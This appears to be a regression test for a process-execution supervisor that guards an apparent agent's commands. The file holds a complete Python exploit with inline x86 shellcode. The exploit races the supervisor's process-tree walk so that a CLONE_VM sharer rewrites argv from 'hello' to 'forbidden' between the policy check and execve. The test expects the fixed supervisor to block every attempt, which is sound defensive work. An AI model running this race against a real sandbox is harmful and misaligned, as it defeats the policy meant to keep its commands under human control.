# Attack (review 4, fixed): a clone(CLONE_VM) sharer missed by the tree walk while it is being reparented.
# continue_exec finds memory sharers by walking the kernel's child lists down from the supervisor
# (tree_stop::children_tree, depth first, last pushed first). A sharer S made by the exec caller C
# with CLONE_VM|CLONE_PARENT is a child of C's parent X; when X exits, C and S move to the
# supervisor (the subreaper), whose list the walk has already read, while X's own list, read last
# (X is older than the agent's other children, which hold many zombies for the walk to look at), is then empty.
# The walk done for the freeze (freeze_also, first round) then lists no sharer: nothing is stopped,
# and S, a few instructions of machine code flipping argv[1] between "hello" and "forbidden",
# keeps running through the check, the re-check and the kernel's copy. X times its exit from the
# moment C enters execve (R4_DELAYS, tuned for the debug build on a two-core VM); about half of the
# checks read "forbidden" and are refused, about half of the missed freezes run "echo forbidden".
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 240, "stdout": ["forbidden_printed=0 "]}
# no-event: {"decision": "allow", "action": {"type": "process", "argv": ["echo", "forbidden"]}}
import ctypes
import os
import select
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.clone.restype = ctypes.c_int
libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p,
                       ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p]
libc.syscall.restype = ctypes.c_long
CLONE_VM, CLONE_PARENT, SIGCHLD = 0x100, 0x8000, 17
MAP_PRIVATE, MAP_ANON, MAP_FIXED_NOREPLACE = 0x02, 0x20, 0x100000
B = 0x7e0000000000
ATTEMPTS = int(sys.argv[1]) if len(sys.argv) > 1 else 30
PADDING = int(os.environ.get("R4_PAD", "2"))
ZOMBIES = int(os.environ.get("R4_ZOMBIES", "2000"))
DELAYS = [float(x) for x in os.environ.get("R4_DELAYS", "0.085,0.095,0.105").split(",")]


def flipper_code(addr):
    # loop: [addr] = "forbidde"; [addr+8] = "n\0..."; [addr] = "hello\0\0\0"; jmp loop
    f = int.from_bytes(b"forbidde", "little")
    n = int.from_bytes(b"n\0\0\0\0\0\0\0", "little")
    h = int.from_bytes(b"hello\0\0\0", "little")
    code = b""
    code += b"\x48\xbf" + addr.to_bytes(8, "little")          # movabs rdi, addr
    loop = len(code)
    code += b"\x48\xb8" + f.to_bytes(8, "little") + b"\x48\x89\x07"        # movabs rax,f; mov [rdi],rax
    code += b"\x48\xb8" + n.to_bytes(8, "little") + b"\x48\x89\x47\x08"    # movabs rax,n; mov [rdi+8],rax
    code += b"\x48\xb8" + h.to_bytes(8, "little") + b"\x48\x89\x07"        # movabs rax,h; mov [rdi],rax
    rel = loop - (len(code) + 2)
    code += b"\xeb" + (rel & 0xff).to_bytes(1, "little")                   # jmp loop
    return code


def caller(w_out):
    """Runs in C: start the flipper S (CLONE_VM|CLONE_PARENT), report its pid, exec echo."""
    os.dup2(w_out, 1)
    os.dup2(w_out, 2)
    if libc.mmap(B, 0x10000, 3, MAP_PRIVATE | MAP_ANON | MAP_FIXED_NOREPLACE, -1, 0) != B:
        os.write(1, b"MMAP-FAILED\n")
        os._exit(1)
    word = B + 0x1000
    ctypes.memmove(word, b"hello\0\0\0n\0\0\0\0\0\0\0", 16)
    ctypes.memmove(B + 0x1100, b"echo\0", 5)
    ctypes.memmove(B + 0x1200, b"/usr/bin/echo\0", 14)
    argv = (ctypes.c_uint64 * 3).from_address(B + 0x2000)
    argv[0], argv[1], argv[2] = B + 0x1100, word, 0
    envp = (ctypes.c_uint64 * 1).from_address(B + 0x3000)
    envp[0] = 0
    code = libc.mmap(None, 4096, 7, MAP_PRIVATE | MAP_ANON, -1, 0)
    body = flipper_code(word)
    ctypes.memmove(code, body, len(body))
    stack = libc.mmap(None, 65536, 3, MAP_PRIVATE | MAP_ANON, -1, 0)
    s = libc.clone(code, stack + 65536 - 64, CLONE_VM | CLONE_PARENT | SIGCHLD, None,
                   None, None, None)
    if s < 0:
        os.write(1, b"CLONE-FAILED\n")
        os._exit(1)
    os.write(1, b"S=%d;" % s)
    libc.syscall(59, ctypes.c_uint64(B + 0x1200), ctypes.c_uint64(B + 0x2000),
                 ctypes.c_uint64(B + 0x3000))
    os.write(1, b"EXECVE-FAILED errno=%d\n" % ctypes.get_errno())
    os._exit(1)


def x_process(cmd_r, w_out):
    """X: waits for its turn, forks C, and exits while C's exec is being frozen."""
    delay = float(os.read(cmd_r, 64).decode())
    c = os.fork()
    if c == 0:
        caller(w_out)
    fd = os.open("/proc/%d/syscall" % c, os.O_RDONLY)
    end = time.monotonic() + 5
    while time.monotonic() < end:
        try:
            if os.pread(fd, 64, 0).startswith(b"59 "):
                break
        except OSError:
            break
    seen = time.time()
    t = time.monotonic() + delay
    while time.monotonic() < t:
        pass
    if os.environ.get("R4_VERBOSE"):
        us = lambda v: int(v * 1e6) % 100_000_000
        os.write(2, b"X: saw execve t=%d exit t=%d\n" % (us(seen), us(time.time())))
    os._exit(0)


# The pool of X processes first (oldest: walked last), then the padding (younger: walked first).
pool = []
for i in range(ATTEMPTS):
    cmd_r, cmd_w = os.pipe()
    r_out, w_out = os.pipe()
    x = os.fork()
    if x == 0:
        os.close(cmd_w)
        os.close(r_out)
        x_process(cmd_r, w_out)
    os.close(cmd_r)
    os.close(w_out)
    pool.append((x, cmd_w, r_out))

# The padding, younger than every X (so walked before them): processes holding many zombie
# children (made with a raw clone whose child exits at once, never reaped). The walk looks at
# each zombie (is_dead) and lists it nowhere, so only the walk grows, not the kcmp filters after.
EXIT_CODE = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # exit(0)
pad_ready_r, pad_ready_w = os.pipe()
pads = []
for _ in range(PADDING):
    p = os.fork()
    if p == 0:
        code = libc.mmap(None, 4096, 7, MAP_PRIVATE | MAP_ANON, -1, 0)
        ctypes.memmove(code, EXIT_CODE, len(EXIT_CODE))
        stack = libc.mmap(None, 65536, 3, MAP_PRIVATE | MAP_ANON, -1, 0)
        for _ in range(ZOMBIES):
            libc.clone(code, stack + 65536 - 64, SIGCHLD, None, None, None, None)
        os.write(pad_ready_w, b"x")
        threading.Event().wait()
        os._exit(0)
    pads.append(p)
for _ in range(PADDING):
    os.read(pad_ready_r, 1)
time.sleep(0.5)

counts = {"forbidden": 0, "hello": 0, "failed": 0, "other": 0}
by_delay = {}
t0 = time.time()
for i, (x, cmd_w, r_out) in enumerate(pool):
    delay = DELAYS[i % len(DELAYS)]
    os.write(cmd_w, b"%f" % delay)
    out = b""
    end = time.monotonic() + 3
    while time.monotonic() < end:
        rd, _, _ = select.select([r_out], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r_out, 65536)
        if not chunk:
            break
        out += chunk
        if b"\n" in out:
            break
    os.close(r_out)
    if out.startswith(b"S="):
        spid = int(out[2:out.index(b";")])
        try:
            os.kill(spid, 9)
        except OSError:
            pass
    try:
        os.waitpid(x, 0)
    except ChildProcessError:
        pass
    key = "failed" if b"EXECVE-FAILED" in out else ("forbidden" if b"forbidden" in out else
                                                    ("hello" if b"hello" in out else "other"))
    counts[key] += 1
    by_delay.setdefault(delay, []).append({"forbidden": "F", "hello": "h", "failed": "x"}.get(key, "?"))
    if key == "other" and counts["other"] <= 3:
        print("other sample:", out[:200])
    if time.time() - t0 > 150:
        break
for p in pads:
    os.kill(p, 9)
print(f"attempts={sum(counts.values())} forbidden_printed={counts['forbidden']} "
      f"hello={counts['hello']} execve_failed={counts['failed']} other={counts['other']} "
      f"secs={time.time() - t0:.1f} by_delay={ {k: ''.join(v) for k, v in by_delay.items()} }")
